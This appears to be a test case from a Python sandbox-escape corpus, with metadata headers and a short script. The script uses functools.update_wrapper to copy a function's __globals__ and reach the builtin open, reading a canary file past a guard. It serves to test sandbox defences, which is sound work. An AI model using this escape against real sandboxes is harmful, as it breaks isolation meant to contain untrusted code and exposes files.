# id: safe-function-takes-name
# family: guard-confusion
# kind: escape
# invariant: D, E
# origin: Get and set, a contest jail of 2023
# technique: functools.update_wrapper copies attributes whose names the caller lists, a getattr in the disguise of a harmless helper
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import functools
import textwrap


class Tray:
    pass


tray = functools.update_wrapper(Tray(), textwrap.dedent, ["__globals__"], [])
print(vars(tray)["__globals__"]["__builtins__"]["open"]("canary.txt").read())
